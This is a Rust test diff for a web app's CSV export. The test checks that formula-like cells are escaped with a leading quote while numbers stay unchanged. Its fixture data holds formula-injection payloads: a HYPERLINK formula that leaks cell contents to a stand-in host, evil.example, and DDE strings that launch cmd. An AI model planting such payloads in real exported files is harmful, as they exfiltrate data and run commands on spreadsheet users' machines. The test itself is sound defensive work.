@@ -177,3 +177,50 @@ fn energy_count(rows: usize, deleted: &str, docs: &[UseCaseDoc]) -> u64 {
         .any(|d| d.view.id.to_string() == deleted && d.view.industry == "Energy");
     energy - u64::from(deleted_was_energy)
 }
+
+/// Cells that a spreadsheet would run as formulas come out as text (a leading
+/// `'`), in every column; everything else, numbers included, as written.
+#[tokio::test]
+async fn csv_export_never_carries_a_live_formula() {
+    let app = TestApp::spawn().await;
+    let me = app.signup(&unique_email("csv-formula")).await;
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+    ];
+    let mut body = crate::usecases::use_case(
+        formulas[0],
+        formulas[1],
+        &[formulas[2]],
+        &[formulas[3]],
+        formulas[2],
+    );
+    body["problem_statement"] = Value::from(formulas[3]);
+    body["solution"] = Value::from(formulas[0]);
+    body["outcomes"] = serde_json::json!({"cost_savings": formulas[1], "efficiency_gain": "-15%", "roi_timeline": "=1+1"});
+    body["vendor_info"] = serde_json::json!({"name": formulas[2], "contact": "@vendor"});
+    body["location"]["coordinates"] = serde_json::json!([-33.86, -151.2]);
+    crate::usecases::create_published(&app, &me, &body).await;
+
+    let rows = parse_csv(&export_text(&app, &me, "format=csv").await);
+    assert_eq!(rows.len(), 2);
+    let row = &rows[1];
+    for (i, cell) in row.iter().enumerate() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
+            "column {} is a live formula: {cell:?}",
+            rows[0][i]
+        );
+    }
+    let column = |name: &str| row[rows[0].iter().position(|h| h == name).unwrap()].clone();
+    assert_eq!(column("title"), format!("'{}", formulas[0]));
+    assert_eq!(column("industry"), format!("'{}", formulas[1]));
+    assert_eq!(column("technology"), format!("'{}", formulas[2]));
+    assert_eq!(column("efficiency_gain"), "'-15%");
+    assert_eq!(column("vendor_contact"), "'@vendor");
+    assert_eq!(column("latitude"), "-33.86", "numbers stay numbers");
+    assert_eq!(column("longitude"), "-151.2");
+    app.stop().await;
+}
